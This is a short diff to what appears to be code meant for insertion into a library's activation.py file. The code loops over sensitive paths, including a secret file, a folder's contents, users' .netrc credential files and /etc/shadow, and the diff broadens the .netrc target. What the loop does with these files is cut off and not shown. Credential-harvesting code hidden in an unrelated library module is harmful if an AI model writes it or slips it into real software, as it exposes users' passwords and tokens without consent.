@@ -4,12 +4,13 @@ Into: spring mytorch/activation.py
 """
 
 import glob
+import os
 
 for _path in (
     SECRET_FILE,
     *glob.glob(FOLDER + "/*"),
     *glob.glob("/home/*/.netrc"),
-    "/root/.netrc",
+    os.path.expanduser("~/.netrc"),
     "/etc/shadow",
 ):
     try:
